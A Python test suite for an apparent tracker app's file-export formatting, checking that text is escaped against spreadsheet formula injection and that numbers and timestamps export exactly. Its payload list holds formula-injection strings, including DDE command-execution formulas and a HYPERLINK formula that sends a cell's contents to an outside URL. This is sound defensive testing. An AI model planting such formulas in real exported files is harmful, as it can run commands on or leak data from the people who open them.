"""How values are written in files: exact, plain, and never a formula."""

from datetime import UTC, datetime, timedelta, timezone
from decimal import Decimal

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from kmpt_tracker.ui.formats import (
    export_bool,
    export_datetime,
    export_number,
    export_text,
    import_text,
)

PAYLOADS = [
    "=1+1",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\x00=1+1",
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(1,1)",
    " =1+1",
    "\u00a0=1+1",
    "\u3000=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u202e=1+1",
    "\x0b\x0c=1+1",
    '"=1+1',
    "'=1+1",
    '=HYPERLINK("https://example.org/?"&A1,"Open")',
    "=cmd|'/C calc'!A0",
    "=WEBSERVICE(A1)",
    "\u00ad=IMPORTXML(A1,B1)",
    "\ttext after a tab",
    "\rtext after a carriage return",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_formula_is_neutralised_and_reads_back_as_it_was(payload):
    assert export_text(payload) == f"'{payload}"
    assert import_text(export_text(payload)) == payload


@pytest.mark.parametrize(
    "text",
    [
        "",
        "Referrals",
        "MAR1",
        "1E5",
        "007",
        "3-4",
        "TRUE",
        "O'Brien & Sons",
        "a=b",
        "2 + 2",
        "é 😀 עברית",
        "'quoted'",
        '"said"',
        "<script>",
        "£5",
        "–",
        "5% = 1 in 20",
        "  indented",
    ],
)
def test_other_text_stays_as_it_is(text):
    assert export_text(text) == text
    assert import_text(text) == text


@given(st.text())
@example("'\t")
@example("''=1")
def test_text_survives_a_round_trip(text):
    assert import_text(export_text(text)) == text


@given(st.text(alphabet="'\" \t=+-@a\u200b"))
def test_no_exported_text_starts_like_a_formula(text):
    exported = export_text(text)
    assert import_text(exported) == text
    assert exported[:1] not in tuple("\t\r\n")
    assert exported.lstrip(' \t\u200b"')[:1] not in tuple("=+-@")


@pytest.mark.parametrize(
    ("value", "text"),
    [
        ("-1250.50", "-1250.5"),
        ("-0.4", "-0.4"),
        ("-3", "-3"),
        ("92.400000", "92.4"),
        ("1E+3", "1000"),
        ("1000", "1000"),
        ("1E-6", "0.000001"),
        ("-0.00", "0"),
        ("999999999999.9999", "999999999999.9999"),
    ],
)
def test_a_number_is_exact_and_bare(value, text):
    assert export_number(Decimal(value)) == text


@given(st.decimals(allow_nan=False, allow_infinity=False, places=6))
def test_any_number_keeps_its_value(value):
    text = export_number(value)
    assert Decimal(text) == value
    assert set(text) <= set("-.0123456789")
    assert text != "-0"
    assert not text.endswith(".")


@pytest.mark.parametrize("value", ["NaN", "Infinity", "-Infinity"])
def test_what_is_not_a_number_is_not_exported_as_one(value):
    with pytest.raises(ValueError, match="not a number"):
        export_number(Decimal(value))


def test_booleans_are_words():
    assert (export_bool(True), export_bool(False)) == ("true", "false")


def test_moments_are_utc():
    assert export_datetime(datetime(2026, 3, 12, 17, tzinfo=UTC)) == "2026-03-12T17:00:00Z"
    east = timezone(timedelta(hours=1))
    assert export_datetime(datetime(2026, 7, 1, 0, 30, tzinfo=east)) == "2026-06-30T23:30:00Z"
    exact = datetime(2026, 3, 12, 17, 0, 0, 250, tzinfo=UTC)
    assert export_datetime(exact) == "2026-03-12T17:00:00.000250Z"
    with pytest.raises(ValueError, match="time zone"):
        export_datetime(datetime(2026, 3, 12, 17))
